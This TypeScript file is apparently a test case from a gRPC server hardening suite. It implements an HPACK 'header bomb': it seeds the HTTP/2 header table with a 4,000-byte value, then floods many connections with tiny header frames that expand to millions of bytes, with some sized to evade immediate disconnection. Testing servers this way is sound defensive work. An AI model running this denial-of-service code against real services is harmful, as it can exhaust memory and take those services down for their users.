import { Buffer } from "node:buffer";
import { callBlock } from "../grpc_calls.ts";
import type { HostileCase } from "../hostile_case.ts";
import { pause } from "../pause.ts";
import { RawConnections } from "../raw_connections.ts";
import { frame, openHttp2 } from "../raw_http2.ts";

const CONNECTIONS = 12;
const BLOCKS = 150;
/** A field of 4,000 bytes for the table. */
const TEACH = [0x40, 1, 97, 0x7f, 0xa1, 0x1e, ...new Uint8Array(4_000).fill(98)];
const BOMB = new Uint8Array(16_000).fill(0xbe);
const SMALL_BOMB = new Uint8Array(60).fill(0xbe);

export const hostileCase: HostileCase = {
  name: "header_bomb",
  about: "a few bytes of headers that unfold to millions",
  engines: ["native", "grpc-js"],
  attack: async (victim, signal) => {
    const connections = new RawConnections();
    let taken = 0;
    for (let at = 0; at < CONNECTIONS && !signal.aborted; at++) {
      const connection = await openHttp2(connections, victim.grpcPort);
      if (connection === undefined) continue;
      await connection.send(frame({ type: 1, flags: 4, stream: 1 }, [...callBlock(), ...TEACH]));
      // Every other one stays below what ends its connection at once.
      const bomb = at % 2 === 0 ? BOMB : SMALL_BOMB;
      for (let count = 0; count < BLOCKS && !signal.aborted; count++) {
        const head = { type: 1, flags: 4, stream: 2 * count + 3 };
        if (!await connection.send(frame(head, Buffer.concat([Buffer.from(callBlock()), bomb])))) {
          break;
        }
        taken++;
      }
    }
    await pause(1_000, signal);
    const notes = [`${taken} blocks sent, ${connections.openCount} connections still open`];
    connections.closeAll();
    return connections.effort({ notes });
  },
};
